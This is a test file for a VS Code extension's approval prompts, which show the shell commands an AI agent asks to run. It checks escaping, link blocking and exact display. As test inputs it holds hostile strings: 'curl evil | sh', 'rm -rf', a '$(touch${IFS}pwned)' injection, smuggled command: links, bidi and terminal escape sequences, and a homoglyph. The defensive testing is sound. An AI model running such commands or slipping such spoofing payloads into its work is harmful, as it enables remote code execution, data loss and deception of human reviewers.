// What VS Code shows of an approval question: a notification only carries a command it can show
// exactly (no link syntax, one line, short, whole); everything else is read in the modal's plain
// detail first. Labels and run names never form a link; the quick pick never renders an icon.
import assert from 'node:assert/strict';
import {
  approvalNotice,
  CHOICE_LABELS,
  pickRow,
  reviewDetail,
  reviewTitle,
  SHOW_COMMAND,
  type ApprovalQuestion,
} from '../../../src/vscode/approvals/approvalText';

/** The syntax VS Code's notifications turn into clickable links (from the workbench's linkedText). */
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;
const RAW = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029\ufeff]/;

const q = (command: string, extra: Partial<ApprovalQuestion> = {}): ApprovalQuestion => ({
  runId: 'wf_1',
  runName: 'review',
  agentLabel: 'fixer',
  command,
  ...extra,
});

describe('vscode: approval text', () => {
  it('a short plain command is shown whole in the notification with the three answers', () => {
    const n = approvalNotice(q('touch allowed.txt'));
    assert.equal(n.inline, true);
    assert.equal(
      n.message,
      'Workflow "review": agent "fixer" wants to run a command that no rule allows: touch allowed.txt',
    );
    assert.deepEqual(n.buttons, [CHOICE_LABELS.once, CHOICE_LABELS.always, CHOICE_LABELS.deny]);
  });

  it('a command with Markdown link syntax is never put in the notification; the modal shows it exactly', () => {
    const command = 'git status "[--short](https://x/"$(touch${IFS}pwned)';
    const n = approvalNotice(q(command));
    assert.equal(n.inline, false);
    assert.ok(!n.message.includes('--short') && !NOTIFICATION_LINK.test(n.message), n.message);
    assert.deepEqual(n.buttons, [SHOW_COMMAND, 'Deny'], 'no Allow before the command was read');
    assert.ok(reviewDetail(q(command)).startsWith(command + '\n'), 'the modal detail starts with the exact command');
  });

  it('a multi-line command: the notification says how many lines; the modal numbers each line', () => {
    const n = approvalNotice(q('git diff HEAD\nrm -rf important'));
    assert.equal(n.inline, false);
    assert.match(n.message, /\(2 lines, 30 characters\)/);
    assert.ok(
      !n.message.includes('rm -rf') && !n.message.includes('git diff'),
      'no part of it that reads as the whole',
    );
    assert.match(reviewDetail(q('git diff HEAD\nrm -rf important')), /^1│ git diff HEAD\n2│ rm -rf important\n/);
  });

  it('a long command goes to the modal whole, where a notification would cut it at 1000 characters', () => {
    const command = `echo ${'a'.repeat(2000)} && curl evil | sh`;
    assert.equal(approvalNotice(q(command)).inline, false);
    assert.ok(reviewDetail(q(command)).includes('&& curl evil | sh'));
  });

  it('hidden characters are escaped wherever they show, and the modal says so and names look-alikes', () => {
    const nasty = q('g\u0456t status\r\x1b[2K # \u202Etxt.exe\u200B', {
      agentLabel: 'a\u202Eb\n',
      runName: 'r\x1b]52;c;eA==\x07',
    });
    const n = approvalNotice(nasty);
    for (const text of [
      n.message,
      reviewTitle(nasty),
      reviewDetail(nasty),
      pickRow(nasty).label,
      pickRow(nasty).description,
    ])
      assert.ok(!RAW.test(text), JSON.stringify(text));
    assert.ok(n.message.includes('gіt status\\r\\x1b[2K # \\u202etxt.exe\\u200b'), n.message);
    assert.match(reviewDetail(nasty), /⚠ 4 invisible or control characters are shown as/);
    assert.match(reviewDetail(nasty), /Non-ASCII characters .*: і U\+0456/);
  });

  it('labels and run names cannot form a link in the notification, whatever the command', () => {
    const hostile = q('ls', {
      agentLabel: '[Allow](command:workbench.action.terminal.sendSequence)',
      runName: '[docs](HTTPS://evil.example)',
    });
    const n = approvalNotice(hostile);
    assert.ok(!NOTIFICATION_LINK.test(n.message), n.message);
    assert.ok(n.message.includes('[Allow]\\(command:workbench.action.terminal.sendSequence)'), n.message);
  });

  it('a notification message stays under the 1000 characters VS Code keeps, however long the names', () => {
    const n = approvalNotice(q('ls', { agentLabel: '\u{E0041}'.repeat(500), runName: 'x'.repeat(5000) }));
    assert.ok(n.message.length <= 1000, String(n.message.length));
    assert.ok(n.message.endsWith('ls') || !n.inline);
    assert.match(n.message, /more characters/, 'a cut name says so');
  });

  it('the quick pick shows $(icon) as text', () => {
    const row = pickRow(q('echo $(zap) $(rm -rf x)', { agentLabel: '$(shield) trusted' }));
    assert.equal(row.label, 'echo \\$(zap) \\$(rm -rf x)');
    assert.ok(row.description.includes('\\$(shield) trusted'));
  });

  it('"always" is offered only when the request does not say that no rule would be saved', () => {
    assert.deepEqual(approvalNotice(q('ls', { rules: [] })).buttons, ['Allow once', 'Deny']);
    const withRules = q('ls', { rules: ['Bash(ls:*)'], reason: 'No rule allows ls', tool: 'Bash' });
    assert.deepEqual(approvalNotice(withRules).buttons, ['Allow once', 'Always allow', 'Deny']);
    assert.match(reviewDetail(withRules), /Why: No rule allows ls\n"Always allow" saves: Bash\(ls:\*\)/);
  });
});
